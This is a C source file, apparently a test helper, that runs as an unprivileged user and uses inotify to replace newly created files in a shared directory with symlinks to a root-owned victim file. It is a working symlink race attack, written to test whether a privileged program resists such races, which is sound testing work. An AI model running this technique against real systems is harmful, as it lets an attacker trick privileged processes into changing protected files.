// SPDX-License-Identifier: GPL-2.0
/*
 * The other user of a shared directory (tests/files/run.sh runs it as
 * nobody through setpriv): it watches DIR with inotify and, as soon as a
 * name is created there, replaces it by a symlink to VICTIM (a root
 * file it cannot read or write itself), so that whoever created the
 * name and then uses it by path (chmod, a second open) works on the
 * victim instead. Names it created itself are left alone.
 *
 * Usage: racer DIR VICTIM MAX-SWAPS TIMEOUT-S
 * Prints "ready" once it watches, "swapped NAME" for each swap, then
 * "swaps N" and ends when it has made MAX-SWAPS or TIMEOUT-S passed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

#define MAX_OWN		64

int main(int argc, char **argv)
{
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	char own[MAX_OWN][NAME_MAX + 1], path[PATH_MAX];
	int fd, swaps = 0, n_own = 0, max, i;
	time_t end;

	if (argc != 5) {
		fprintf(stderr, "usage: racer DIR VICTIM MAX-SWAPS TIMEOUT-S\n");
		return 2;
	}
	max = atoi(argv[3]);
	end = time(NULL) + atoi(argv[4]);
	fd = inotify_init1(IN_CLOEXEC);
	if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) {
		perror("racer: inotify");
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	while (swaps < max && time(NULL) < end) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		ssize_t len;
		char *p;

		if (poll(&pfd, 1, 100) <= 0)
			continue;
		len = read(fd, buf, sizeof(buf));
		for (p = buf; len > 0 && p < buf + len;) {
			const struct inotify_event *e = (const void *)p;
			bool mine = false;

			p += sizeof(*e) + e->len;
			if (!e->len)
				continue;
			for (i = 0; i < n_own; i++)
				mine |= !strcmp(own[i], e->name);
			if (mine || n_own == MAX_OWN)
				continue;
			snprintf(path, sizeof(path), "%s/%s", argv[1], e->name);
			/* The directory is writable: unlink works on root's file. */
			if (unlink(path) || symlink(argv[2], path)) {
				printf("failed %s: %s\n", e->name, strerror(errno));
				continue;
			}
			snprintf(own[n_own++], sizeof(own[0]), "%s", e->name);
			printf("swapped %s\n", e->name);
			fflush(stdout);
			swaps++;
		}
	}
	printf("swaps %d\n", swaps);
	return 0;
}
